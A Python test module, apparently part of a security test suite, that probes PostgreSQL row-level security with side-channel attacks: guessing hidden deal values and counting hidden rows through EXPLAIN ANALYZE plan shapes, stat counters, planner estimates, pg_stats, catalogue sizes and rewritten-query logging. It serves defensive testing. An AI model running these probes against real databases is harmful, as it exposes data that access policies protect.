"""Hidden values told by plans, counters, estimates and errors.

Whoever knows a row's key asks whether a value is what they guess: what runs
before the policy is asked, or what the planner expects, answers.
"""

from __future__ import annotations

from typing import LiteralString

from tests.attacks.attack import Attack, Control, Try, attack, readings, register
from tests.attacks.ground import Ground

VALUES: dict[str, tuple[str, str, str, Control]] = {
    "date": ("closed_on", "'2031-07-19'", "'1999-01-01'", "none"),
    "text": ("title", "'HIDDEN deal of dave'", "'something else'", "none"),
    "stage": ("stage", "'won'", "'lost'", "none"),
    "number": ("probability", "73", "74", "none"),
    "time": ("created_at", "{created}", "'1999-01-01'", "none"),
    "reference": ("company_id", "{company}", "999999", "none"),
    "currency": ("currency", "'CHF'", "'EUR'", "none"),
    "owner": ("owner_id", "{dave}", "{bob}", "none"),
    "money": ("amount", "{amount}", "{more}", "none"),
}
"""Column, what dave's deal holds, what it does not; each guess is one EXPLAIN."""


def _values(ground: Ground, guess: str) -> str:
    deal = "from crm.deal where title = 'HIDDEN deal of dave'"
    created = ground.truth(f"select quote_literal(created_at) {deal}")
    company = ground.truth(f"select company_id {deal}")
    amount = ground.truth(f"select amount {deal}")
    return guess.format(
        amount=amount,
        more=amount + 1,
        created=created,
        company=company,
        dave=ground.person("dave"),
        bob=ground.person("bob"),
    )


def _query(ground: Ground, column: str, guess: str) -> LiteralString:
    key = ground.truth("select id from crm.deal where title = 'HIDDEN deal of dave'")
    return f"select 1 from crm.deal where id = {key} and {column} = {_values(ground, guess)}"


def _by_plan(person: str, column: str, right: str, wrong: str) -> Try:
    def attempt(ground: Ground) -> bool:
        session = ground.login(person)
        queries = [_query(ground, column, guess) for guess in (right, wrong)]
        for _ in (1, 2):
            seen = [session.plan(query).replace(query, "") for query in queries]
            if _shape(seen[0]) != _shape(seen[1]):
                return True
            # By an index, the guess is asked before anything else is.
            session.run("set enable_seqscan = off")
            session.run("set enable_indexscan = on")
            queries = [query.replace("where id", "where id + 0") for query in queries]
        return False

    return attempt


def _shape(plan: str) -> tuple[int, ...]:
    """Return what of a plan depends on the hidden row: what was executed, and how many rows were thrown away."""
    lines = plan.splitlines()
    return (
        plan.count("never executed"),
        *(int(line.rsplit(":", 1)[1]) for line in lines if "Rows Removed by" in line),
        plan.count("rows=1"),
    )


for _name, (_column, _right, _wrong, _control) in VALUES.items():
    for _person, _suffix, _who in (("eve", "", "one role"), ("mallory", "-with-two-roles", "two roles")):
        if _person == "eve" and _name in ("owner", "stage"):
            continue  # All eve reaches is found by its owner at once; tests.attacks.values has more ways.
        register(
            Attack(
                f"explain-{_name}{_suffix}",
                "oracles",
                f"guess the {_name} of a row whose key one knows, with {_who}, by what EXPLAIN ANALYZE says was executed",
                _by_plan(_person, _column, _right, _wrong),
                ("B12", "B25"),
                _control,
            )
        )


@attack("oracles", "B11", control="none")
def explain_counts_hidden_rows(ground: Ground) -> bool:
    """Count hidden rows by "Rows Removed by Filter"."""
    session = ground.login("eve")
    session.run("set enable_indexscan = off")
    session.run("set enable_bitmapscan = off")
    return "Rows Removed by Filter" in session.plan("select 1 from crm.deal")


@attack("oracles", "B24", control="none")
def explain_existence(ground: Ground) -> bool:
    """Learn by EXPLAIN ANALYZE whether there is a row with a key."""
    session = ground.login("eve")
    text: LiteralString = "select 1 from crm.deal where id = "
    keys = (ground.hidden["deal"], 999_999_999)
    plans = [session.plan(text + str(key)).replace(str(key), "") for key in keys]
    return _shape(plans[0]) != _shape(plans[1])


def _fetched(ground: Ground, person: str, function: str, table: str) -> bool:
    session = ground.login(person)
    oid = ground.truth("select %s::regclass::oid", [table])
    counts = []
    session.run("set enable_seqscan = off")
    for guess in ("'2031-07-19'", "'1999-01-01'"):
        query = _query(ground, "closed_on", guess)
        before = session.value(f"select pg_catalog.{function}({oid})")
        session.rows(query)
        counts.append(session.value(f"select pg_catalog.{function}({oid})") - before)
    return bool(counts[0] != counts[1])


def _counter(function: str, table: str, row: str) -> None:
    def attempt(ground: Ground) -> bool:
        return _fetched(ground, "eve", function, table) or _fetched(ground, "mallory", function, table)

    name = f"counter-{function.removeprefix('pg_stat_get_xact_').replace('_', '-')}-of-{table.partition('.')[2]}"
    what = f"guess a date of a row whose key one knows by one's own transaction's counter {function}"
    register(Attack(name.replace("_", "-"), "oracles", what, attempt, (row,), "none"))


_counter("pg_stat_get_xact_numscans", "rls.reach_pkey", "B14")


@attack("oracles", "B13")
def counters_of_ones_transaction(ground: Ground) -> bool:
    """Count the hidden rows one's own query went through."""
    return bool(ground.mallory().value("select pg_stat_get_xact_tuples_returned('crm.deal'::regclass) is not null"))


@attack("oracles", "B13")
def counters_by_view(ground: Ground) -> bool:
    """Do the same by the view over these counters."""
    return bool(ground.mallory().rows("select seq_tup_read from pg_stat_xact_user_tables where relname = 'deal'"))


@attack("oracles", "B16", control="none")
def estimate_of_a_category(ground: Ground) -> bool:
    """Learn from estimates how many of all deals are in a stage."""
    session = ground.login("eve")
    won, none = (session.estimate(f"select from crm.deal where stage = '{stage}'") for stage in ("won", "nowhere"))
    return won > none


@attack("oracles", "B15", control="none")
def estimate_of_a_range(ground: Ground) -> bool:
    """Learn from estimates how a date is distributed over all deals."""
    session = ground.login("eve")
    guesses = ("'2031-07-19'", "'1999-01-01'")
    numbers = [session.estimate(f"select from crm.deal where closed_on = {guess}") for guess in guesses]
    return numbers[0] != numbers[1]


@attack("oracles", "B15", control="none")
def estimate_of_money(ground: Ground) -> bool:
    """Learn the same of amounts, whose comparison is not leakproof."""
    session = ground.login("eve")
    guesses = ("700000", "900000")
    numbers = [session.estimate(f"select from crm.deal where amount > {guess}") for guess in guesses]
    return numbers[0] != numbers[1]


@attack("oracles", "B17", control="none")
def estimate_of_the_greatest(ground: Ground) -> bool:
    """Learn from estimates at the end of an index how great the greatest key is."""
    session = ground.login("eve")
    greatest = ground.truth("select max(id) from crm.deal")
    numbers = [session.estimate(f"select from crm.deal where id > {key}") for key in (greatest - 50, greatest + 50)]
    return numbers[0] != numbers[1]


@attack("oracles", "B18", control="none")
def totals_of_the_catalogue(ground: Ground) -> bool:
    """Read how many rows a table has."""
    return bool(ground.mallory().value("select reltuples = 6 from pg_class where oid = 'crm.ticket'::regclass"))


@attack("oracles", "B18", control="none")
def size_of_a_table(ground: Ground) -> bool:
    """Read how great a table is."""
    return bool(ground.mallory().value("select pg_relation_size('crm.deal') > 0"))


@attack("oracles", "B18")
def activity_of_a_table(ground: Ground) -> bool:
    """Read how many rows of a table were made and changed by everybody."""
    return bool(ground.mallory().rows("select n_tup_ins from pg_stat_user_tables where relname = 'deal'"))


@attack("oracles", "B21", "B20", control="none")
def rate_of_inserts(ground: Ground) -> bool:
    """Learn from the keys of one's own records how many others make."""
    text: LiteralString = "insert into crm.deal (owner_id, title) values (%s, 'x') returning id"
    mallory = ground.mallory()
    first = mallory.value(text, [ground.person("mallory")])
    ground.login("dave").run("insert into crm.deal (owner_id, title) values (%s, 'x')", [ground.person("dave")])
    return bool(mallory.value(text, [ground.person("mallory")]) - first > 1)


readings(
    "oracles",
    "B19",
    what="read what the server knows of values",
    texts={
        "pg-stats": "select most_common_vals::text, histogram_bounds::text from pg_stats where tablename = 'deal'",
        "pg-stats-lead": "select most_common_vals::text, histogram_bounds::text from pg_stats where tablename = 'lead'",
    },
)
readings(
    "oracles",
    "B19",
    what="read what the server knows of values",
    control="superuser",
    texts={
        "pg-statistic": "select stavalues1::text from pg_statistic where starelid = 'crm.deal'::regclass",
    },
)


@attack("oracles", "B23")
def parse_trees_in_the_log(ground: Ground) -> bool:
    """Have the server print the rewritten query with its policies to oneself."""
    mallory = ground.mallory()
    mallory.run("set debug_print_rewritten = on")
    mallory.run("set client_min_messages = log")
    return mallory.sees("select title from crm.deal")
